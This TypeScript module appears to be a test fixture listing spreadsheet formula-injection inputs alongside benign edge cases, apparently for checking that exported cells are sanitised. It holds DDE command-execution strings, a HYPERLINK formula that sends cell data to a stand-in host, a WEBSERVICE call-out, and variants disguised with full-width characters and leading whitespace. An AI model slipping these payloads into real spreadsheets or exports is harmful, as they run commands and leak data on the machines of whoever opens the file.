import "server-only";

/** What spreadsheets have run, or split, when it stood in a cell. */
export const HOSTILE_CELLS = [
  "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  "+1+1", "+44 20 7946 0000", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "@SUM(1,1)", "@", "=", "+", "-",
  "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\uFEFF=1+1", "　=1+1",
  "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1",
  "a\n=1+1", "a\r\n=1+1\r\nb", "\"=1+1\"", "\"\"", "\",=1+1,\"", "a\",\"=1+1", ";=1+1", "a;=1+1;b", ",=1+1", "a\t=1+1",
  "日本語", "é", "👩‍👩‍👧", "\u202e=1", "نص", "−5", "0", "-5", "-0.25", "12.50", "1e5", "-1e5", "", " ", "  x  ", "TRUE", "'=1", "''",
];
